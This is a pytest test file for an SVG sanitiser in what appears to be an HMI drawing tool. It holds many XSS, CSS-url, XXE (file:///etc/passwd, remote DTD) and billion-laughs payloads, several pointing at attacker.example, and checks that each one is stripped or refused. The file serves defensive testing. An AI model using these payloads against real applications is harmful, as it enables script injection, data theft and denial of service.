"""Drawings are parsed safely and come out harmless, with Inkscape's drawing intact."""

from __future__ import annotations

import xml.etree.ElementTree as ET

import pytest

from hmi.svg_bindings import find_bindings
from hmi.svg_css import is_inside_reference
from hmi.svg_sanitiser import (
    MAX_DRAWING_BYTES,
    MAX_DRAWING_DEPTH,
    DrawingError,
    parse_drawing,
    sanitise,
    to_svg,
)
from tests.hmi.support import harmless_problems, inkscape_drawing, overview_drawing


def clean(svg: str) -> tuple[str, dict[str, int]]:
    root = parse_drawing(svg)
    removed = sanitise(root)
    return to_svg(root), dict(removed)


MALICIOUS = {
    "script element": '<script type="text/javascript">alert(document.cookie)</script>',
    "script in another namespace": (
        '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>'
    ),
    "event handlers": '<rect onclick="alert(1)" ONMOUSEOVER="alert(2)" width="5" height="5"/>',
    "javascript link": '<a xlink:href="javascript:alert(1)"><text>click</text></a>',
    "obfuscated javascript link": '<a href=" jav&#x09;ascript:alert(1)"><text>click</text></a>',
    "external link": '<a href="http://attacker.example/phish"><text>help</text></a>',
    "foreign object": (
        '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
        '<iframe src="http://attacker.example/"/></body></foreignObject>'
    ),
    "external use": '<use xlink:href="http://attacker.example/sprites.svg#breaker"/>',
    "external image": '<image href="https://attacker.example/track.png" width="5" height="5"/>',
    "svg image carrying a script": (
        '<image href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=" width="5"/>'
    ),
    "file image": '<image xlink:href="file:///etc/passwd" width="5" height="5"/>',
    "css url in style": '<rect style="fill:url(http://attacker.example/x.svg#g)" width="5"/>',
    "css url in attribute": '<rect fill="url(\'//attacker.example/x#g\')" width="5"/>',
    "css import": "<style>@import url(http://attacker.example/x.css); rect { fill: red }</style>",
    "animated link": (
        '<a href="#x"><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'
    ),
    "animated handler": '<rect width="5"><set attributeName="onclick" to="alert(1)"/></rect>',
    "svg tiny handler": '<handler type="application/ecmascript">alert(1)</handler>',
    "xml base": '<g xml:base="http://attacker.example/"><use xlink:href="#a"/></g>',
}


@pytest.mark.parametrize("body", MALICIOUS.values(), ids=MALICIOUS.keys())
def test_malicious_content_comes_out_harmless_and_is_counted(body):
    svg, removed = clean(inkscape_drawing(body + '<text id="kept">Kept</text>'))
    assert harmless_problems(svg) == []
    assert removed, "what was removed is reported"
    assert ">Kept</text>" in svg


def test_onload_on_the_root_is_removed():
    svg, removed = clean(inkscape_drawing("", root_attributes='onload="alert(1)"'))
    assert "onload" not in svg
    assert removed == {"event handler attribute": 1}


SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg">'
ENTITY_ATTACKS = {
    "external file entity": (
        '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f"{SVG_OPEN}<text>&xxe;</text></svg>"
    ),
    "external network entity": (
        '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>'
        f"{SVG_OPEN}<text>&xxe;</text></svg>"
    ),
    "parameter entity": (
        '<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'
        f"{SVG_OPEN}</svg>"
    ),
    "billion laughs": (
        '<!DOCTYPE svg [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
        f"{SVG_OPEN}<text>&d;</text></svg>"
    ),
}


@pytest.mark.parametrize("svg", ENTITY_ATTACKS.values(), ids=ENTITY_ATTACKS.keys())
def test_entities_are_refused_with_a_message(svg):
    with pytest.raises(DrawingError, match="entities"):
        parse_drawing(svg)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ("<svg xmlns='http://www.w3.org/2000/svg'><rect></svg>", "not well-formed"),
        ("<html><body/></html>", "not an SVG"),
        ("<svg><rect/></svg>", "not an SVG"),
        ("", "not well-formed"),
    ],
)
def test_what_is_not_an_svg_drawing_is_refused(data, message):
    with pytest.raises(DrawingError, match=message):
        parse_drawing(data)


def test_an_inkscape_drawing_keeps_its_namespaces_styles_and_text():
    svg, removed = clean(overview_drawing())
    assert removed == {}
    root = ET.fromstring(svg)  # noqa: S314 - our own output
    assert root.tag == "{http://www.w3.org/2000/svg}svg"
    assert 'xmlns="http://www.w3.org/2000/svg"' in svg
    assert 'inkscape:label="Layer 1"' in svg and "sodipodi:namedview" in svg
    assert "fill:url(#busbar)" in svg and "stroke-width:0.5" in svg
    assert "13.20 kV" in svg
    assert 'xlink:href="#screen:E4F1"' in svg


def test_fragment_references_and_embedded_bitmaps_are_kept():
    png = "data:image/png;base64,iVBORw0KGgo="
    svg, removed = clean(
        inkscape_drawing(
            f'<symbol id="breaker"><rect width="4" height="4"/></symbol>'
            f'<use xlink:href="#breaker" x="3"/><image href="{png}" width="5" height="5"/>'
        )
    )
    assert removed == {}
    assert 'xlink:href="#breaker"' in svg and png in svg


def test_bound_elements_are_found_by_tag_label_and_id_and_marked():
    root = parse_drawing(overview_drawing())
    bindings = find_bindings(root, known_tags={"E4189I01", "E41BAR00", "decoration_not"})
    assert bindings.elements == {
        "E4DI00": None,
        "E4189I01": None,
        "E41BAR00": None,
        "E4189S01": "E4F1",
        "E4LBL01": "E4F1",
    }
    assert bindings.links == ["E4F1"]
    tagged = {e.get("tag") for e in root.iter() if e.get("tag")}
    assert tagged == set(bindings.elements)


def test_a_label_or_id_that_is_no_known_tag_binds_nothing():
    root = parse_drawing(inkscape_drawing('<rect id="rect5" inkscape:label="Breaker 1"/>'))
    assert find_bindings(root, known_tags={"E4DI00"}).elements == {}


def test_a_tag_attribute_that_is_not_a_tag_is_a_problem():
    root = parse_drawing(inkscape_drawing('<rect id="r1" tag="not a tag"/>'))
    bindings = find_bindings(root, known_tags=set())
    assert bindings.elements == {}
    assert "not a tag" in bindings.problems[0]


# Issue 18: payloads that reached outside the drawing, and more an attacker would try. Every
# one carries attacker.example (where it would fetch or navigate to) or alert( (what it would
# run); neither may survive sanitising, however the sanitiser gets rid of it.
XLINK_AS_L = 'xmlns:l="http://www.w3.org/1999/xlink"'
PNG = "data:image/png;base64,iVBORw0KGgo="
HARDENED = {
    "animate xlink:href with values": (
        '<a href="#x"><animate attributeName="xlink:href" values="http://attacker.example/a"'
        ' begin="0s" fill="freeze"/><text>x</text></a>'
    ),
    "set an href under another prefix bound to XLink": (
        f'<a {XLINK_AS_L} l:href="#x"><set attributeName="l:href"'
        ' to="http://attacker.example/b"/><text>x</text></a>'
    ),
    "animate href with from and to": (
        '<a href="#x"><animate attributeName="href" from="#x"'
        ' to="http://attacker.example/c"/><text>x</text></a>'
    ),
    "attributeName in capitals with spaces": (
        '<a href="#x"><set attributeName=" XLINK:HREF " to="http://attacker.example/d"/>'
        "<text>x</text></a>"
    ),
    "set the href of an image": (
        f'<image href="{PNG}" width="5" height="5">'
        '<set attributeName="xlink:href" to="http://attacker.example/e.png"/></image>'
    ),
    "set the href of a filter image": (
        f'<filter id="f"><feImage href="{PNG}"><set attributeName="xlink:href"'
        ' to="http://attacker.example/f.png"/></feImage></filter>'
    ),
    "set xml:base": (
        '<g><set attributeName="xml:base" to="http://attacker.example/g/"/><use href="#kept"/></g>'
    ),
    "animate a fill to an outside paint server": (
        '<rect width="5" height="5"><animate attributeName="fill"'
        ' values="red;url(http://attacker.example/h.svg#p)" dur="1s"/></rect>'
    ),
    "set a cursor to an outside image": (
        '<rect width="5" height="5"><set attributeName="cursor"'
        ' to="url(http://attacker.example/i.cur),auto"/></rect>'
    ),
    "animate an event handler": (
        '<rect width="5"><animate attributeName="onmouseover" values="alert(1)"/></rect>'
    ),
    "animation with a begin handler": '<rect width="5"><set onbegin="alert(1)"/></rect>',
    "motion along an outside path": (
        '<rect width="5"><animateMotion dur="1s">'
        '<mpath href="http://attacker.example/j.svg#p"/></animateMotion></rect>'
    ),
    "escaped url in a style attribute": (
        r'<rect width="5" style="fill:\75rl(http://attacker.example/k.svg#g)"/>'
    ),
    "escaped url with a space ending the escape": (
        r"<style>rect { fill: \75 rl(http://attacker.example/l.svg#g) }</style>"
    ),
    "escaped capitals in url": r'<rect width="5" style="fill:U\52 L(http://attacker.example/m)"/>',
    "escaped url in a presentation attribute": (
        r'<rect width="5" fill="\75rl(http://attacker.example/n.svg#g)"/>'
    ),
    "escaped import": r'<style>@\69mport "http://attacker.example/o.css";</style>',
    "import of a string": '<style>@import "http://attacker.example/p.css";</style>',
    "quoted url in capitals": '<rect width="5" style="fill:URL( \'http://attacker.example/q\' )"/>',
    "image-set": (
        '<style>body { background-image: image-set("http://attacker.example/r.png" 1x) }</style>'
    ),
    "prefixed image-set in a style attribute": (
        '<rect width="5" style="fill:red;background:'
        "-webkit-image-set('http://attacker.example/s.png' 1x)\"/>"
    ),
    "src() in a font face": (
        '<style>@font-face { font-family: f; src: src("http://attacker.example/t.woff") }</style>'
    ),
    "font face url": (
        "<style>@font-face { font-family: g; src: url(http://attacker.example/u.woff) }</style>"
    ),
    "style text after a child element": (
        "<style>rect { fill: red }<desc>d</desc>"
        "body { background: url(http://attacker.example/v.png) }</style>"
    ),
    "style text inside a child element": (
        "<style><g>body { background: url(http://attacker.example/w.png) }</g></style>"
    ),
    "style in CDATA": (
        "<style><![CDATA[body { background: url(http://attacker.example/x.png) }]]></style>"
    ),
    "import nested in a media rule": (
        "<style>@media all { @import url(http://attacker.example/y.css); }</style>"
    ),
    "nested style rule": (
        "<style>rect { fill: red; &amp; body { background: url(http://attacker.example/z) } }"
        "</style>"
    ),
    "a fragment url, then an outside one": (
        '<rect width="5" style="fill:url(#a) url(http://attacker.example/al)"/>'
    ),
    "a quoted fragment url, then a quoted outside one": (
        '<rect width="5" fill="url(\'#a\') url(&quot;http://attacker.example/am&quot;)"/>'
    ),
    "cursor in a style attribute": (
        '<rect width="5" style="cursor:url(http://attacker.example/aa.cur),auto"/>'
    ),
    "mask url with spaces and quotes": (
        '<rect width="5" mask="url( \'http://attacker.example/ab.svg#m\' )"/>'
    ),
    "behavior": '<rect width="5" style="fill:red;behavior:url(http://attacker.example/ac)"/>',
    "ping on a link": ('<a href="#x" ping="http://attacker.example/ad"><text>x</text></a>'),
    "href in an unexpected namespace": (
        '<a xmlns:h="http://www.w3.org/1999/xhtml" h:href="http://attacker.example/ae">'
        "<text>x</text></a>"
    ),
    "SVG2 href on use": '<use href="http://attacker.example/af.svg#a"/>',
    "embedded SVG document in use": (
        '<use href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=#a"/>'
    ),
    "filter image from outside": (
        '<filter id="g"><feImage href="http://attacker.example/ag.png"/></filter>'
    ),
    "text path from outside": (
        '<text><textPath href="http://attacker.example/ah.svg#p">x</textPath></text>'
    ),
    "gradient template from outside": (
        '<linearGradient id="h" href="http://attacker.example/ai.svg#g"/>'
    ),
    "link with a target": (
        '<a href="http://attacker.example/aj" target="_blank"><text>x</text></a>'
    ),
    "data URL of a page": (
        '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>x</text></a>'
    ),
    "javascript with entities and whitespace": (
        '<a xlink:href="&#x20;&#x6A;ava&#x0A;script&#x3A;alert(1)"><text>x</text></a>'
    ),
    "javascript after a fragment": '<a href="#&#x0A;javascript:alert(1)"><text>x</text></a>',
    "event handler in mixed case": '<rect width="5" OnClIcK="alert(1)"/>',
    "script with the svg prefix": "<svg:script>alert(1)</svg:script>",
    "script in a namespace that only looks like SVG": (
        '<s:script xmlns:s="http://www.w3.org/2000/svg ">alert(1)</s:script>'
    ),
    "foreign object with another prefix": (
        '<s:foreignObject xmlns:s="http://www.w3.org/2000/svg"><p>alert(1)</p></s:foreignObject>'
    ),
    "HTML link element": (
        '<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet"'
        ' href="http://attacker.example/ak.css"/>'
    ),
    "nested svg with onload": '<svg onload="alert(1)"><rect width="5"/></svg>',
}


def leaks(svg: str) -> list[str]:
    """What of the attackers' payloads survived in ``svg``."""
    survivors = [mark for mark in ("attacker.example", "alert(") if mark in svg.lower()]
    return survivors + harmless_problems(svg)


@pytest.mark.parametrize("body", HARDENED.values(), ids=HARDENED.keys())
def test_what_reached_outside_is_removed_and_counted(body):
    svg, removed = clean(inkscape_drawing(body + '<text id="kept">Kept</text>'))
    assert leaks(svg) == []
    assert removed, "what was removed is reported"
    assert ">Kept</text>" in svg


@pytest.mark.parametrize(
    "document",
    [
        '<?xml-stylesheet href="http://attacker.example/x.css"?>' + SVG_OPEN + "</svg>",
        '<!DOCTYPE svg [<!ATTLIST rect onclick CDATA "alert(1)">]>'
        f'{SVG_OPEN}<rect width="5"/></svg>',
    ],
    ids=["stylesheet processing instruction", "event handler as a DTD default"],
)
def test_what_comes_before_the_root_does_not_survive(document):
    svg, _ = clean(document)
    assert leaks(svg) == []
    assert "<!DOCTYPE" not in svg and "<?xml-stylesheet" not in svg


def test_inkscape_css_and_references_inside_the_drawing_are_kept_as_written():
    style = "fill:url(#busbar);stroke:URL( '#edge' );cursor:pointer"
    sheet = f'.a {{ fill: url("#g") }} .b {{ background: url({PNG}) }}'
    svg, removed = clean(
        inkscape_drawing(
            f'<style>{sheet}</style><rect style="{style}" filter="url(#f)" width="5"/>'
            '<rect transform="translate(3,4) rotate(5)" width="5"/>'
            '<animate attributeName="fill" values="red;url(#busbar)" dur="1s"/>'
        )
    )
    assert removed == {}
    assert f'style="{style}"' in svg and 'filter="url(#f)"' in svg
    assert sheet.replace('"', "&quot;") in svg or sheet in svg
    assert 'transform="translate(3,4) rotate(5)"' in svg
    assert 'values="red;url(#busbar)"' in svg


def test_a_dangerous_declaration_goes_and_the_others_stay():
    svg, removed = clean(
        inkscape_drawing(
            '<rect width="5" style="fill:red;cursor:url(http://attacker.example/c),auto;'
            'stroke:blue"/>'
        )
    )
    assert 'style="fill:red;stroke:blue"' in svg
    assert removed == {"CSS url() leaving the drawing": 1}


def test_a_dangerous_rule_goes_and_the_others_stay():
    svg, removed = clean(
        inkscape_drawing(
            r"<style>rect { fill: red } @\69mport 'x.css'; .b { fill: \75rl(x) }</style>"
        )
    )
    root = ET.fromstring(svg)  # noqa: S314 - our own output
    (style,) = root.iter("{http://www.w3.org/2000/svg}style")
    assert style.text == "rect { fill: red }"
    assert removed == {"CSS @import": 1, "CSS url() leaving the drawing": 1}


def test_a_style_sheet_becomes_one_text_node_without_elements():
    svg, removed = clean(inkscape_drawing("<style>rect { fill: red }<desc>d</desc> .a {}</style>"))
    root = ET.fromstring(svg)  # noqa: S314 - our own output
    (style,) = root.iter("{http://www.w3.org/2000/svg}style")
    assert list(style) == [] and style.text == "rect { fill: red }d .a {}"
    assert removed == {"element inside <style>": 1}


def test_css_nested_too_deep_is_removed_not_recursed_into():
    deep = "(" * 5000 + "url(http://attacker.example/x)" + ")" * 5000
    svg, removed = clean(inkscape_drawing(f'<rect width="5" style="fill:red;x:{deep}"/>'))
    assert leaks(svg) == [] and 'style="fill:red"' in svg
    assert removed == {"CSS nested more than 32 levels deep": 1}


def test_text_after_a_removed_element_stays():
    svg, _ = clean(inkscape_drawing("<text>before <script>alert(1)</script>after</text>"))
    assert "<text>before after</text>" in svg


def nested(depth: int) -> str:
    """A drawing whose elements nest ``depth`` levels, the root included."""
    return SVG_OPEN + "<g>" * (depth - 1) + "</g>" * (depth - 1) + "</svg>"


def test_drawings_nested_up_to_the_limit_are_accepted():
    svg, removed = clean(nested(MAX_DRAWING_DEPTH))
    assert removed == {} and svg.count("<g") == MAX_DRAWING_DEPTH - 1


@pytest.mark.parametrize("depth", [MAX_DRAWING_DEPTH + 1, 1000, 1_000_000])
def test_drawings_nested_deeper_are_refused_with_a_message(depth):
    with pytest.raises(DrawingError, match="nested more than 100 levels deep"):
        parse_drawing(nested(depth))


def test_sanitising_a_deep_tree_does_not_recurse():
    root = ET.Element("{http://www.w3.org/2000/svg}svg")
    node = root
    for _ in range(20_000):
        node = ET.SubElement(node, "{http://www.w3.org/2000/svg}g")
    ET.SubElement(node, "{http://www.w3.org/2000/svg}script").text = "alert(1)"
    assert sanitise(root) == {"<script> element": 1}


def test_drawings_over_the_size_limit_are_refused_with_a_message():
    padding = "<!--" + "x" * MAX_DRAWING_BYTES + "-->"
    with pytest.raises(DrawingError, match="limited to 10 MiB"):
        parse_drawing(SVG_OPEN + padding + "</svg>")
    two_bytes_each = "é" * (MAX_DRAWING_BYTES // 2)
    with pytest.raises(DrawingError, match="limited to 10 MiB"):
        parse_drawing(f"{SVG_OPEN}<text>{two_bytes_each}</text></svg>")


@pytest.mark.parametrize(
    ("url", "inside"),
    [
        ("#busbar", True),
        (" \t#screen:E4F1\n", True),  # the URL parser drops these: still a fragment
        ("#a\nb", True),
        ("\xa0#busbar", False),  # not dropped by the URL parser: a path on the site
        ("/#busbar", False),
        ("//attacker.example/#a", False),
        (PNG, False),  # only where bitmaps may be
    ],
)
def test_a_reference_stays_inside_only_as_a_fragment(url, inside):
    assert is_inside_reference(url) is inside


def test_embedded_bitmaps_stay_where_bitmaps_may_be():
    assert is_inside_reference(PNG, images=True)
    assert not is_inside_reference("data:image/svg+xml;base64,PHN2Zz4=", images=True)
